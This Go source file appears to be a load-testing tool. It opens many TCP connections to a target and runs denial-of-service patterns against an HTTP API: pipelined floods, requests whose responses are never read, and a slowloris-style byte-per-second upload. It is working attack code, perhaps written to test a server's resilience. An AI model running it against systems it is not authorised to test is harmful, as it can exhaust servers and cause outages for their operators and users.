//go:build unix

package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"time"
)

// writeBuffer bounds the kernel's memory on this side. Otherwise the attacker fills the
// memory that this machine has for all of TCP.
const writeBuffer = 16 << 10

// attacks are what a connection does until the server closes it.
var attacks = map[string]func(net.Conn){
	"pipeline": pipeline,
	"unread":   unread,
	"upload":   upload,
	"single":   single,
}

func modes() []string { return slices.Sorted(maps.Keys(attacks)) }

// attack keeps the connections open until ctx ends. It prints how many it has opened.
func attack(ctx context.Context, o options) {
	var opened atomic.Int64
	var all sync.WaitGroup
	for range o.connections {
		all.Go(func() {
			for ctx.Err() == nil {
				conn, err := new(net.Dialer).DialContext(ctx, "tcp", o.address)
				if err != nil {
					continue
				}
				opened.Add(1)
				_ = conn.(*net.TCPConn).SetWriteBuffer(writeBuffer)
				stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
				attacks[o.mode](conn)
				stop()
				_ = conn.Close()
			}
		})
	}
	all.Wait()
	fmt.Fprintf(os.Stdout, "%d were opened\n", opened.Load())
}

// requests returns pipelined requests with well-formed API keys that do not exist.
func requests(n int) []byte {
	var text bytes.Buffer
	for range n {
		fmt.Fprintf(&text, "GET /v1/orders HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ok_%s\r\n\r\n", rand.Text())
	}
	return text.Bytes()
}

// pipeline sends requests as fast as the server accepts them.
func pipeline(conn net.Conn) {
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	unread(conn)
}

// unread sends requests and never reads a response.
func unread(conn net.Conn) {
	text := requests(16)
	for {
		if _, err := conn.Write(text); err != nil {
			return
		}
	}
}

// upload sends a body a byte a second.
func upload(conn net.Conn) {
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	_, err := fmt.Fprintf(conn, "POST /v1/orders HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ok_%s\r\n"+
		"Idempotency-Key: %s\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n", rand.Text(), rand.Text())
	for err == nil {
		<-time.After(time.Second)
		_, err = io.WriteString(conn, " ")
	}
}

// single sends one request, reads its response and closes the connection.
func single(conn net.Conn) {
	if _, err := conn.Write(requests(1)); err == nil {
		_, _ = conn.Read(make([]byte, 4<<10))
	}
}
